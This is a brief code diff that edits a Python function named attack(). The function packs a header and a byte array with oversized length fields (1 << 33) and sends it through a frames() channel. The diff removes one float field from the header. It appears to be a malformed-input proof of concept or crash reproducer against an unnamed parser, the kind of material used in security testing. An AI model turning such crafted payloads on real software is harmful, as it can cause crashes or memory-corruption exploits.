@@ -10,4 +10,4 @@ def frames():
 
 def attack():
     array = b"a\x0b\0\2" + struct.pack("<QQ", 1 << 33, 1 << 33)
-    frames().send(5, struct.pack("<IId?I", 0, 0, 0.0, False, 0) + array)
+    frames().send(5, struct.pack("<II?I", 0, 0, False, 0) + array)
